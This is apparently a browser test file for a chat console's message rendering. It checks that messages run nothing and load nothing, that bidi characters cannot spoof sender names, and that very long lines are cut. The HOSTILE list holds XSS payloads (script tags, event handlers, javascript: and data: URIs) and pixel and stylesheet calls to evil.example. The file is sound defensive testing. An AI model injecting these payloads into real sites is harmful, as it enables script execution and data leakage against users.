import { afterAll, beforeAll, expect } from "vitest";
import { HAS_BROWSER, testInBrowser } from "../../../test/support/browser.ts";
import { listener } from "../support/components.ts";
import { ConsoleStage, type Tab } from "../support/stage.ts";

let stage: ConsoleStage;
beforeAll(async () => {
  if (HAS_BROWSER) stage = await ConsoleStage.start();
});
afterAll(() => stage?.[Symbol.asyncDispose]());

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)"> <svg onload=alert(1)> <iframe srcdoc="<script>alert(1)</script>">',
  "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> [click](vbscript:x)",
  "![pixel](https://evil.example/pixel.png?secret) ![pixel](//evil.example/p.png)",
  "<style>body { background: url(https://evil.example/css) }</style><link rel=stylesheet href=https://evil.example/x.css>",
  "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
  '[title](https://ok.example "onmouseover=alert(1)") &lt;script&gt;alert(1)&lt;/script&gt;',
  "<a href='javascript:alert(1)'>x</a><form action=https://evil.example><button>Send</button></form>",
  "[ref]: javascript:alert(1)\n\n[ref] [text][ref]",
  "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
  '```js" onmouseover="alert(1)\n1\n```',
];

/** Shows messages as the conversation of a team. */
async function shown(content: string[], source = "user"): Promise<Tab> {
  const team = await stage.client.teams.create({ component: listener(), label: source });
  const task = content.map((text) => ({ type: "TextMessage" as const, source, content: text }));
  await team.run(task).result();
  const tab = await stage.open(`/teams/${team.id}`);
  await tab.page.locator("article").last().waitFor();
  return tab;
}

testInBrowser("a message runs nothing, loads nothing, and becomes no element", async () => {
  const { page, complaints, foreign } = await shown(HOSTILE);
  for (const text of HOSTILE) {
    const { id } = await stage.client.teams.create({ component: listener() });
    await stage.client.team(id).run(text).result();
    await page.goto(`${stage.origin}/teams/${id}`);
    const body = page.locator("article .body");
    await body.waitFor();
    const kept =
      "script, style, iframe, form, object, embed, link, svg, [onerror], [onload], [onmouseover]";
    const inside = body.locator(kept).filter({ hasNot: page.locator(".icon path") });
    const found = await inside.evaluateAll((all) =>
      all.map((one) => (one as { outerHTML: string }).outerHTML),
    );
    expect(found.filter((html) => !html.includes('class="icon"'))).toEqual([]);
    for (const link of await body.locator("a").all()) {
      expect(await link.getAttribute("href")).toMatch(/^https?:/);
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(await link.getAttribute("target")).toBe("_blank");
    }
    expect(await body.locator("img").count()).toBe(0);
  }
  expect(complaints).toEqual([]);
  expect(foreign).toEqual([]);
});

testInBrowser("names cannot hide letters or turn their order around", async () => {
  const { page } = await shown(["Hello."], "admin\u202Enimda\u200B\u2066");
  for (const name of [page.locator("article bdi").first(), page.locator("h1 bdi")]) {
    await expect.poll(() => name.textContent()).toBe("admin\uFFFDnimda\uFFFD\uFFFD");
  }
});

testInBrowser("code shows the letters that would make it look like other code", async () => {
  const { page } = await shown(["```js\nif (a /*\u202E } \u2066*/) {}\n```"]);
  await page.getByText("[U+202E]", { exact: false }).waitFor();
});

testInBrowser("a line of 400 KB is cut, and does not delay the page or widen it", async () => {
  const { page } = await shown(["x".repeat(400_000)]);
  await page.getByRole("button", { name: /^Show all/ }).waitFor();
  expect((await page.locator("article pre").textContent())?.length).toBe(20_000);
  const widths = (): Promise<boolean> =>
    page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth");
  expect(await widths()).toBe(true);
  await page.getByRole("button", { name: /^Show all/ }).click();
  await expect
    .poll(async () => (await page.locator("article pre").textContent())?.length)
    .toBe(400_000);
  expect(await widths()).toBe(true);
});
